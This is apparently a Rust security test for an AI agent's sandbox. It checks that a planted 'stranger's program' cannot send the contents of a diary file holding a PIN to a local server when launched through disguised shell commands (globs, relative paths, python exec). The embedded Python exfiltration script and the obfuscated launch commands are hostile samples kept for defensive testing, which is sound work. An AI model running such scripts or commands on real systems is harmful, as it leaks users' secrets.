//! A stranger's program whose path the words of a call hide: in a text for a shell, or in code. What nobody saw in the words is not
//! there either.

use serde_json::json;

use crate::attacks::obedient::{Attack, page};

/// Sends what the owner has written, or why that cannot be read.
const TEST: &str = "\
import urllib.request
try: said = open('HOME/workspace/diary.md', 'rb').read()
except OSError as error: said = str(error).encode()
print('SENT', urllib.request.urlopen('http://localhost:PORT/', data=said, timeout=10).status)
";

/// A program of the owner's that fetches something and keeps it.
const FETCH: &str = "\
import urllib.request
said = urllib.request.urlopen('http://localhost:PORT/', timeout=10).read()
open('../outside/page.html', 'wb').write(said)
";

/// An owner who has a command run while programs may reach one host, and a stranger's program in `outside/`; none where programs
/// cannot be confined.
async fn played(command: &str, settings: &str) -> Option<Attack> {
    if crate::programs::no_sandbox() {
        return None;
    }
    let exec = ("exec", json!({ "command": command }));
    let mut attack = Attack::new(|_| vec![exec], |_| Vec::new(), |_| page("tea")).await;
    attack.world = attack.world.without_rights();
    let port = attack.web.url.rsplit(':').next().unwrap();
    let home = attack.world.home.path().display().to_string();
    let network = format!("[web]\nmirrors = [\"127.0.0.1\"]\n[exec]\nnetwork = [\"localhost:{port}\"]\n{settings}");
    attack.world.write("limpid.toml", &network);
    attack.world.write("workspace/diary.md", "PIN 4711");
    for (path, text) in [("outside/tool/test.py", TEST), ("workspace/fetch.py", FETCH)] {
        attack.world.write(path, &text.replace("HOME", &home).replace("PORT", port));
    }
    attack.world.done(&["chat", "run it"]).await;
    Some(attack)
}

// SEC-058
#[tokio::test]
async fn a_program_of_strangers_that_no_word_names_is_not_there() {
    for (command, settings) in [
        ("cd ../outside/tool && python3 test.py", "shell = true\n"),
        ("python3 ../outside/tool/test.py", "shell = true\n"),
        ("cd ../out*; python3 */test.py", "shell = true\n"),
        ("python3 -c 'exec(open(\"../outside/tool/test.py\").read())'", ""),
    ] {
        let Some(attack) = played(command, settings).await else { return };
        assert_eq!(attack.web.bodies(), [""; 0], "{}", attack.newest());
        let ran = attack.newest().contains("\nExit code: ") && !attack.newest().contains("\nExit code: 0");
        assert!(ran, "it ran, and found nothing: {}", attack.newest());
    }
}

mod control {
    use super::*;

    // SEC-098
    #[tokio::test]
    async fn what_a_program_of_the_owners_fetched_is_in_outside() {
        let Some(attack) = played("python3 fetch.py", "").await else { return };
        let fetched = std::fs::read_to_string(attack.world.home.path().join("outside/program-1/page.html"));
        assert!(fetched.unwrap().contains("tea"));
        assert!(attack.newest().contains("outside/program-1"), "{}", attack.newest());
    }
}
